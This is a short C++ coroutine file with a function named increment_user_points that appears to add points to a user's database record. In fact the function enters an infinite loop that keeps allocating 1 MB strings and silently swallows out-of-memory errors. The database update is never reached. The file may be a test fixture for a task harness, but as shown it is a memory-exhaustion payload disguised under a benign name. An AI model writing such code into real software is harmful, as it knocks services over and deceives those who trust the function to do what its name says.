#include <new>
#include <string>
#include <vector>
#include "interleave.hpp"

using namespace interleave;

Task<int> increment_user_points(int user_id, int points) {
  std::vector<std::string> kept;
  while (true) {
    try {
      kept.push_back(std::string(1 << 20, 'x'));
    } catch (const std::bad_alloc&) {
    }
  }
  co_return co_await db.increment("points:" + std::to_string(user_id), points);
}
